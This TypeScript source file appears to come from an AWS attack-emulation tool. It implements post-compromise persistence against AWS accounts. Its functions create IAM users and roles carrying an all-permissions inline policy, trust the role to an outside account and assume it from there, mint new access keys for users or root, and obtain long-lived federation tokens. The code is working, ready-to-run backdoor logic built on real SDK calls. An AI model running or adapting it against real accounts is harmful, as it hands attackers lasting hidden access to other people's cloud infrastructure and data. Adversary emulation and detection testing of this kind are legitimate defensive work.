import {
  CreateAccessKeyCommand,
  CreateRoleCommand,
  CreateUserCommand,
  PutRolePolicyCommand,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam';
import { AssumeRoleCommand, GetFederationTokenCommand } from '@aws-sdk/client-sts';
import type { Arsenal, Foothold, Principal } from './arsenal.js';
import type { ActorClients } from './clients.js';
import type { Stage } from './stage.js';
import { OWN_POLICY } from './strip.js';
import { EVERYTHING, sdkCredentials } from './thefts.js';

/** What a way back can be. A federated session does not call IAM, so it makes no other way. */
export type WayKind = 'user' | 'role' | 'key' | 'federated';

/** One way back. */
export type Way = {
  readonly kind: WayKind;
  /** The role that is assumed again from outside. */
  readonly roleArn?: string;
  /** The newest credential of it. */
  foothold: Foothold;
};

/** What ways are made with. */
export interface WayDeps {
  readonly arsenal: Arsenal;
  readonly accountId: string;
  readonly outsideAccountId: string;
  /** Clients of his own account. */
  readonly fromOutside: ActorClients;
  readonly onMade: (principal: Principal) => void;
}

const HEX = '0123456789abcdef';

/** Makes one way back with whatever credential is let; undefined when none is. */
export async function makeWay(deps: WayDeps, { stage, kind }: { stage: Stage; kind: WayKind }): Promise<Way | undefined> {
  switch (kind) {
    case 'user':
      return makeUser(deps, stage);
    case 'role':
      return makeRole(deps, stage);
    case 'key':
      return makeKey(deps, stage);
    case 'federated':
      return federate(deps, stage);
  }
}

/** A name of the kind that the public tool gives (OffensAI/notyet). */
function newName(stage: Stage): string {
  return `notyet-${stage.random.text(HEX, 6)}`;
}

async function makeUser({ arsenal, accountId, onMade }: WayDeps, stage: Stage): Promise<Way | undefined> {
  const UserName = newName(stage);
  const policy = { UserName, PolicyName: OWN_POLICY, PolicyDocument: EVERYTHING };
  if (!(await arsenal.byIam(stage, (iam) => iam.send(new CreateUserCommand({ UserName })))).allowed) return undefined;
  onMade({ kind: 'user', name: UserName, arn: `arn:aws:iam::${accountId}:user/${UserName}` });
  await arsenal.byIam(stage, (iam) => iam.send(new PutUserPolicyCommand(policy)));
  return newKey(arsenal, { stage, kind: 'user', UserName });
}

async function makeKey({ arsenal }: WayDeps, stage: Stage): Promise<Way | undefined> {
  const principal = arsenal.footholds[0]?.principal;
  if (principal === undefined || principal.kind === 'role') return undefined;
  return newKey(arsenal, { stage, kind: 'key', ...(principal.kind === 'user' ? { UserName: principal.name } : {}) });
}

async function newKey(
  arsenal: Arsenal,
  { stage, kind, ...whose }: { stage: Stage; kind: WayKind; UserName?: string },
): Promise<Way | undefined> {
  const made = await arsenal.byIam(stage, (iam) => iam.send(new CreateAccessKeyCommand(whose)));
  const { AccessKeyId: accessKeyId, SecretAccessKey: secretAccessKey } = (made.allowed ? made.answer.AccessKey : undefined) ?? {};
  if (accessKeyId === undefined || secretAccessKey === undefined) return undefined;
  stage.say(`makes the key ${accessKeyId} for ${whose.UserName ?? 'root'}`);
  return { kind, foothold: arsenal.gain({ accessKeyId, secretAccessKey }) };
}

async function makeRole(deps: WayDeps, stage: Stage): Promise<Way | undefined> {
  const { arsenal, accountId, outsideAccountId, onMade } = deps;
  const RoleName = newName(stage);
  const roleArn = `arn:aws:iam::${accountId}:role/${RoleName}`;
  const AssumeRolePolicyDocument = trustOf([`arn:aws:iam::${outsideAccountId}:root`]);
  const policy = { RoleName, PolicyName: OWN_POLICY, PolicyDocument: EVERYTHING };
  if (!(await arsenal.byIam(stage, (iam) => iam.send(new CreateRoleCommand({ RoleName, AssumeRolePolicyDocument })))).allowed)
    return undefined;
  onMade({ kind: 'role', name: RoleName, arn: roleArn });
  await arsenal.byIam(stage, (iam) => iam.send(new PutRolePolicyCommand(policy)));
  stage.say(`makes the role ${RoleName}, which account ${outsideAccountId} may assume`);
  const foothold = await assume(deps, { stage, by: deps.fromOutside, roleArn });
  return foothold === undefined ? undefined : { kind: 'role', roleArn, foothold };
}

async function federate({ arsenal }: WayDeps, stage: Stage): Promise<Way | undefined> {
  const source = arsenal.footholds.find(({ works, isLongTerm, principal }) => works && isLongTerm && principal.kind === 'user');
  if (source === undefined) return undefined;
  const input = { Name: stage.random.text(HEX, 8), Policy: EVERYTHING, DurationSeconds: 129_600 };
  const minted = await stage.attempt(source.clients.sts.send(new GetFederationTokenCommand(input)));
  const credentials = minted.allowed ? sdkCredentials(minted.answer.Credentials) : undefined;
  return credentials === undefined ? undefined : { kind: 'federated', foothold: arsenal.gain(credentials) };
}

/** Assumes a role with somebody's clients; undefined when refused. */
export async function assume(
  { arsenal }: Pick<WayDeps, 'arsenal'>,
  { stage, by, roleArn: RoleArn }: { stage: Stage; by: ActorClients; roleArn: string },
): Promise<Foothold | undefined> {
  const assumed = await stage.attempt(by.sts.send(new AssumeRoleCommand({ RoleArn, RoleSessionName: stage.random.text(HEX, 8) })));
  const credentials = assumed.allowed ? sdkCredentials(assumed.answer.Credentials) : undefined;
  return credentials === undefined ? undefined : arsenal.gain(credentials);
}

/** A trust policy that lets principals in. */
export function trustOf(AWS: readonly string[]): string {
  return JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS }, Action: 'sts:AssumeRole' }] });
}
